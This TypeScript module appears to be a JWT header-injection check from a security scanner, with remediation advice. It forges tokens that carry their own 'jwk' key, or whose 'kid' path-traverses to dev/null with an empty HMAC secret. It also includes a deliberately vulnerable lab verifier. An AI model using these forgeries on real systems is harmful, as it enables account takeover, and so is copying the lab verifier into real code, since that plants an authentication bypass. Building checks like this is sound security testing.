import { createPublicKey, generateKeyPairSync, type KeyObject, sign, verify } from 'node:crypto';
import { hmacOf, type Jwt, writeJwt } from '../jwt.ts';
import { defineTokenCheck } from '../token-check.ts';
import { tokenLab } from '../token-lab.ts';

/** The token brings its own key, or names a file with nothing in it as the key. */
type Way = 'jwk' | 'kid';

let pair: { publicKey: KeyObject; privateKey: KeyObject } | undefined;
/** One for the process: it only has to be a key that the target has never seen. */
const ourPair = () => {
  pair ??= generateKeyPairSync('rsa', { modulusLength: 2048 });
  return pair;
};
const signOurs = (signed: string) => sign('sha256', Buffer.from(signed), ourPair().privateKey).toString('base64url');
const signEmpty = (signed: string) => hmacOf('HS256', '', signed) ?? '';
const EMPTY_FILE = `${'../'.repeat(9)}dev/null`;

function forge({ header, claims }: Jwt, way: Way): string {
  if (way === 'kid') return writeJwt({ ...header, alg: 'HS256', kid: EMPTY_FILE }, claims, signEmpty);
  const jwk = { ...ourPair().publicKey.export({ format: 'jwk' }), use: 'sig' };
  return writeJwt({ ...header, alg: 'RS256', jwk }, claims, signOurs);
}

/** The same signature, but the key is not named. */
function control({ header, claims }: Jwt, way: Way): string {
  return way === 'kid'
    ? writeJwt({ ...header, alg: 'HS256' }, claims, signEmpty)
    : writeJwt({ ...header, alg: 'RS256' }, claims, signOurs);
}

export default defineTokenCheck<Way>({
  id: 'jwt-header-injection',
  title: 'A token chooses the key it is verified with',
  cwe: 347,
  cvss: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:N',
  why: 'The target takes the key from the token itself, or from a file that the token names. So everybody signs tokens for any account with a key of their own.',
  fix: 'Verify with keys that you have chosen. Ignore jwk and jku in tokens, and look kid up in a list.',
  ways: ['jwk', 'kid'],
  // Who has one secret for all has no keys to choose from.
  waysFor: async ({ header: { alg, kid } }) => [
    ...(/^HS/.test(String(alg)) ? [] : (['jwk'] as const)),
    ...(kid === undefined ? [] : (['kid'] as const)),
  ],
  maxRequests: 160,
  forge,
  control,
  lab() {
    const { publicKey, privateKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
    const isBy = (key: KeyObject, { signed, signature }: Jwt) =>
      verify('sha256', Buffer.from(signed), key, Buffer.from(signature, 'base64url'));
    const isByItsOwnKey = (jwt: Jwt) => {
      const { jwk } = jwt.header;
      return typeof jwk === 'object' && jwk !== null && isBy(createPublicKey({ key: { ...jwk }, format: 'jwk' }), jwt);
    };
    const write = (sub: string) =>
      writeJwt({ alg: 'RS256' }, { sub }, (signed) =>
        sign('sha256', Buffer.from(signed), privateKey).toString('base64url'),
      );
    return tokenLab(write, {
      vulnerable: (jwt) => isBy(publicKey, jwt) || isByItsOwnKey(jwt),
      safe: (jwt) => isBy(publicKey, jwt),
    });
  },
});
